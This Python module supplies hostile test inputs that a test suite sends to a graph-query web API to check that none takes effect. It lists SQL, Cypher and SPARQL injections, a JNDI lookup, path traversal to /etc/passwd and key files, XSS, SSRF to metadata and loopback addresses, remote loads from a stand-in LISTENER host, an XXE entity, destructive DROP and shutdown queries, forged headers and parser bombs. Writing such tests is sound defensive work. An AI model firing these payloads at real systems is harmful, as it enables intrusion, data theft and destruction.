"""Hostile inputs, by what they attack; ``test_hostile`` sends each wherever text can go in.

None may have an effect: no answer of 5xx, no connection made, no file read, nothing changed, and
nothing that comes back may run in a browser.
"""

# ruff: noqa: E501 - lists to be read across

from __future__ import annotations

INJECTIONS = [
    "'", '"', "\\", "`", "';--", "' OR '1'='1", '" OR ""="', "') OR true //", "') RETURN 1 //",
    "' }) DETACH DELETE n //", "'}) MATCH (n) DELETE n RETURN ('", "x' UNION MATCH (n) RETURN n //",
    "$param", "${jndi:ldap://LISTENER/a}", "{{7*7}}", "<%= 7*7 %>", "#{7*7}", "%{7*7}",
    "x\" } ; DROP ALL ; #", "\"} INSERT DATA { <a> <b> <c> } #", "> ?p ?o } DELETE WHERE { ?s ?p ?o",
    "<http://x> } SERVICE <LISTENER> { ?s ?p ?o", "?x } UNION { ?s ?p ?o", "}}}}", "{{{{", "/* */",
    "\u2028", "\u0000", "\ufeff", "\ud83d", "x\x1b[31m", "a\r\nSet-Cookie: x=1", "a%0d%0aX: y",
    "1; DROP TABLE sources", "x' AND 1=CAST((SELECT 1) AS INT)--", "UNION SELECT NULL,NULL--",
]  # fmt: skip
PATHS = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "%2e%2e/%2e%2e/etc/passwd",
    "....//....//etc/passwd", "..\\..\\..\\etc\\passwd", "/etc/passwd", "//etc/passwd",
    "file:///etc/passwd", "%252e%252e%252fetc%252fpasswd", "..%c0%af..%c0%afetc/passwd",
    "static/../../api/app.py", "keys.json", "../keys.json", "../../keys.json", "%2e%2e%2fkeys.json",
    "owner", "../owner", ".env", ".git/config", "derived/manifest.sqlite", "C:\\windows\\win.ini",
    "\\\\LISTENER\\share", "a" * 5000, ".", "..", "~", "~root", "%00", "a%00.html", "-rf", "|id",
]  # fmt: skip
XSS = [
    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>",
    "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "<iframe src=LISTENER>",
    "'-alert(1)-'", "</title><script>alert(1)</script>", "<a href=javascript:alert(1)>x</a>",
    "<math><mtext><style><img src onerror=alert(1)>", "<!--<script>-->", "&lt;script&gt;",
    "<body onload=alert(1)>", "<link rel=stylesheet href=LISTENER>", "<base href=LISTENER>",
    "<meta http-equiv=refresh content='0;url=LISTENER'>", "<object data=LISTENER>",
    "<embed src=LISTENER>", "<form action=LISTENER><input autofocus onfocus=alert(1)>",
    "\u202ealert(1)\u202c", "<scr\u0000ipt>alert(1)</script>", "＜script＞alert(1)＜/script＞",
]  # fmt: skip
REACHING = [
    "LISTENER", "LISTENER#", "http://127.0.0.1:22/", "http://[::1]/", "http://0/", "http://0x7f.1/",
    "http://2130706433/", "http://localhost.localdomain/", "gopher://LISTENER/", "ftp://LISTENER/",
    "http://169.254.169.254/latest/meta-data/", "dict://LISTENER/", "ldap://LISTENER/",
    "http://user@LISTENER/", "http://x@127.0.0.1@LISTENER/", "jar:LISTENER!/", "netdoc:///etc/passwd",
    "http://LISTENER\\@example.org/", "//LISTENER/", "unix:///var/run/docker.sock",
]  # fmt: skip
BOMBS = [
    "(" * 3000, "[" * 3000, "{" * 3000, "((a+)+)+$" + "a" * 40 + "!", "(?:a|a)*" * 20, "a" * 20_000,
    "9" * 400, "-" * 400, "1e9999", "-1e9999", "NaN", "Infinity", "0x" + "f" * 400, "٣", "²", "1_0",
    "💥" * 2000, "e\u0301" * 2000, "\u0915\u094d\u0937" * 1000, "&" * 2000, "=" * 2000, "%" * 300,
    "-1", "0", "1.5", "99999999999999999999", "true", "null", "undefined", "[]", "{}", "2025-13-45",
    "0000-00-00", "9999-12-31", "--02-30", "-0001-01-01", "2025-05-19T00:00:00Z", "today",
]  # fmt: skip
CYPHER = [
    "LOAD CSV FROM 'LISTENER' AS x RETURN x", "LOAD CSV FROM 'file:///etc/passwd' AS x RETURN x",
    "LOAD CSV WITH HEADERS FROM 'LISTENER' AS x CREATE (:X)", "LOAD CSV FROM $u AS x RETURN x",
    "CALL apoc.load.json('LISTENER')", "CALL apoc.load.csv('LISTENER')",
    "CALL apoc.cypher.run('CREATE (:X)', {})", "CALL apoc.export.csv.all('x.csv', {})",
    "CALL dbms.listConfig()", "CALL dbms.security.listUsers()", "CALL dbms.killQuery('1')",
    "CALL db.clearQueryCaches()", "CALL dbms.shutdown()", "SHOW USERS", "SHOW DATABASES",
    "TERMINATE TRANSACTIONS 'q1'", "STOP DATABASE neo4j", "DROP DATABASE neo4j", "USE system RETURN 1",
    "CREATE (n:Document) RETURN n", "MERGE (n:Document {iri: 'x'})", "MATCH (n) DETACH DELETE n",
    "MATCH (n) SET n.x = 1", "MATCH (n) SET n:X", "MATCH (n) REMOVE n.iri", "MATCH ()-[r]->() DELETE r",
    "FOREACH (x IN [1] | CREATE (:X))", "UNWIND [1] AS x CREATE (:X)", "CALL { CREATE (:X) }",
    "CALL { CREATE (:X) } IN TRANSACTIONS", "PROFILE CREATE (:X)", "EXPLAIN CREATE (:X)",
    "CREATE INDEX FOR (n:X) ON (n.y)", "CREATE CONSTRAINT FOR (n:X) REQUIRE n.y IS UNIQUE",
    "DROP CONSTRAINT resource_iri", "CREATE USER x SET PASSWORD 'yyyyyyyy'", "ALTER USER neo4j SET PASSWORD 'x'",
    "GRANT ROLE admin TO neo4j", "CALL sql('DELETE FROM Document')", "CALL db.createLabel('X')",
    "CALL custom.declareProcedure('x() :: ()', 'CREATE (:X)')", "RETURN apoc.util.sleep(100000)",
    "CYPHER runtime=slotted CREATE (:X)", "/* */CREATE (:X)", "RETURN 1; CREATE (:X)", "//\nCREATE (:X)",
    "UNWIND range(1, 10000000000) AS x RETURN collect(x)", "RETURN range(1, 1000000000)",
    "RETURN reduce(s = 'a', x IN range(1, 40) | s + s)", "MATCH (a), (b), (c), (d), (e), (f), (g) RETURN count(*)",
    "MATCH p = ()-[*]-() RETURN count(p)", "RETURN 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' =~ '(a+)+$'",
    "WITH " + "[" * 500 + "1" + "]" * 500 + " AS x RETURN x", "RETURN " + "(" * 2000 + "1" + ")" * 2000,
    "RETURN " + "+".join(["1"] * 3000), "MATCH " + "()--" * 300 + "() RETURN 1", "\x00", "RETURN '\ud800'",
    "CALL db.index.fulltext.queryNodes('Sentence[text]', '*:*')", "RETURN $missing", "MATCH (n:`a``b`) RETURN n",
]  # fmt: skip
SPARQL = [
    "INSERT DATA { <a> <b> <c> }", "DELETE WHERE { ?s ?p ?o }", "CLEAR ALL", "DROP ALL", "DROP SILENT DEFAULT",
    "LOAD <LISTENER>", "LOAD SILENT <file:///etc/passwd> INTO GRAPH <g>", "CREATE GRAPH <g>", "COPY <a> TO <b>",
    "MOVE DEFAULT TO <b>", "ADD <a> TO <b>", "WITH <g> DELETE { ?s ?p ?o } WHERE { ?s ?p ?o }",
    "SELECT * { SERVICE <LISTENER> { ?s ?p ?o } }", "SELECT * { SERVICE SILENT <LISTENER> { ?s ?p ?o } }",
    "SELECT * { BIND(<LISTENER> AS ?u) SERVICE ?u { ?s ?p ?o } }", "SELECT * FROM <LISTENER> { ?s ?p ?o }",
    "SELECT * FROM NAMED <file:///etc/passwd> { GRAPH ?g { ?s ?p ?o } }", "DESCRIBE <LISTENER>",
    "SELECT * { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i . ?j ?k ?l . ?m ?n ?o }",
    "SELECT * { ?s (<a>|!<b>)* ?o . ?x (<a>|!<b>)* ?y . ?q (!<z>)+ ?r . ?t ?u ?v }",
    "SELECT (REGEX(REPLACE('aaaaaaaaaaaaaaaaaaaaaaaaaaaa!', 'a', 'aa'), '((a+)+)+$') AS ?x) {}",
    "SELECT (GROUP_CONCAT(?a) AS ?x) { ?a ?b ?c . ?d ?e ?f . ?g ?h ?i }", "SELECT (<LISTENER>() AS ?x) {}",
    "SELECT " + "(" * 5000, "SELECT * { " + "{ " * 3000, "ASK { FILTER(" + "!" * 5000 + "true) }",
    "SELECT * { ?s " + "/".join(["<a>"] * 3000) + " ?o }", "SELECT * { VALUES ?x { " + "1 " * 20000 + "} }",
    "SELECT (CONCAT(" + ",".join(["'aaaa'"] * 3000) + ") AS ?x) {}", "\x00", "ASK { ?s ?p '\\uD800' }",
    "PREFIX : <LISTENER> SELECT * { SERVICE:a { ?s ?p ?o } }", "ASK {} ; DROP ALL", "ASK {}\nDROP ALL",
    "SELECT (STRDT('x', <LISTENER>) AS ?y) {}", "SELECT (IRI('file:///etc/passwd') AS ?y) {}", "#", "BASE <\x00>",
    "CONSTRUCT { ?s ?p ?o . ?o ?p ?s . ?p ?s ?o } { ?s ?p ?o . ?x ?y ?z . ?a ?b ?c }",
    "SELECT (SHA512(GROUP_CONCAT(STR(?o))) AS ?x) { ?s ?p ?o . ?a ?b ?c . ?d ?e ?f }",
    "SELECT * { { SELECT * { ?s ?p ?o } } { SELECT * { ?a ?b ?c } } { SELECT * { ?d ?e ?f } } } ORDER BY ?o ?c",
]  # fmt: skip
HEADERS = [
    ("Host", "evil.example"), ("Host", "127.0.0.1@evil.example"), ("Host", ""), ("Host", "127.0.0.1, evil"),
    ("Origin", "null"), ("Origin", "http://127.0.0.1.evil.example"), ("Origin", "file://"),
    ("Sec-Fetch-Site", "cross-site"), ("Accept", "*/*;q=" + "9" * 500), ("Accept", ",".join(["a/b"] * 2000)),
    ("Accept", "text/html;" * 500), ("Content-Type", "application/json; charset=utf-7"), ("Content-Type", "\xff"),
    ("Content-Type", "multipart/form-data; boundary=" + "a" * 300), ("Content-Length", "-1"),
    ("Content-Length", "99999999999999999999"), ("Content-Length", "1e3"), ("Transfer-Encoding", "gzip"),
    ("Range", "bytes=0-" + "9" * 300), ("Range", "bytes=" + ",".join(["0-1"] * 500)), ("If-None-Match", "*" * 5000),
    ("If-Modified-Since", "never"), ("X-Forwarded-For", "127.0.0.1"), ("X-Forwarded-Host", "evil.example"),
    ("X-Original-URL", "/corrections"), ("X-HTTP-Method-Override", "DELETE"), ("X-Request-Id", "x\ty"),
    ("Authorization", "Bearer " + "x" * 5000), ("Authorization", "Basic " + "=" * 300), ("Cookie", "a=b;" * 1000),
    ("Accept-Encoding", "gzip;q=" + "1" * 300), ("Accept-Language", "*" * 3000), ("Upgrade", "h2c"),
    ("Connection", "Upgrade, HTTP2-Settings"), ("Expect", "100-continue"), ("Last-Event-ID", "\x01"),
]  # fmt: skip
BODIES = [
    "", "null", "[]", "{}", "1", '"x"', "{", "[" * 50_000, '{"a":' * 20_000, '{"statement": null}',
    '{"statement": {"a": 1}}', '{"statement": "RETURN 1", "parameters": null}', '{"statement": "\\ud800"}',
    '{"statement": "RETURN $a", "parameters": {"a": ' + "9" * 4000 + "}}", '{"statement": "RETURN 1", "statement": "CREATE (:X)"}',
    '{"statement": "RETURN $a", "parameters": {"a": ' + "[" * 150 + "]" * 150 + "}}", '{"__proto__": {"x": 1}, "statement": "RETURN 1"}',
    '{"statement": "RETURN 1", "maxExecutionTime": 1e308}', '{"statement": "RETURN 1", "maxExecutionTime": -1}',
    '{"statement": "RETURN 1", "parameters": {"' + "k" * 100_000 + '": 1}}', "\xff\xfe", "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    '{"author": "<script>", "reason": "x", "decision": {"kind": "reject"}}', '{"author": "x", "reason": "x", "decision": {"kind": "../../etc"}}',
]  # fmt: skip
